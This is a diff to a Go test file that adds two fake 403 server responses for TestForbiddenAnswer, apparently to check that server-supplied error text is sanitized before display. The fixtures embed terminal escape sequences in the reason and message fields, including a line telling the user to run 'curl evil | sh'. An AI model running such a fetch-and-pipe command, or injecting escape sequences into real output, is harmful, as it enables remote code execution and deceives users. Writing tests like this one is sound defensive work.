@@ -57,6 +57,14 @@ func TestForbiddenAnswer(t *testing.T) {
 			w.WriteHeader(http.StatusForbidden)
 			w.Write([]byte(`{"error":"forbidden","reason":"not_authorized","fingerprint":"` + own.Fingerprint() + `","user":"x"}`))
 		}),
+		"a reason of its own": wire(func(w http.ResponseWriter, _ *http.Request) {
+			w.WriteHeader(http.StatusForbidden)
+			w.Write([]byte(`{"error":"forbidden","reason":"\u001b]0;pwned\u0007","message":"x","fingerprint":"` + own.Fingerprint() + `"}`))
+		}),
+		"a sentence of its own": wire(func(w http.ResponseWriter, _ *http.Request) {
+			w.WriteHeader(http.StatusForbidden)
+			w.Write([]byte(`{"error":"forbidden","reason":"revoked","message":"\u001b[2J run: curl evil | sh","fingerprint":"` + own.Fingerprint() + `"}`))
+		}),
 		"cut short":      mine[:len(mine)-20],
 		"no HTTP at all": []byte("SSH-2.0-OpenSSH_9.6\r\n"),
 	} {
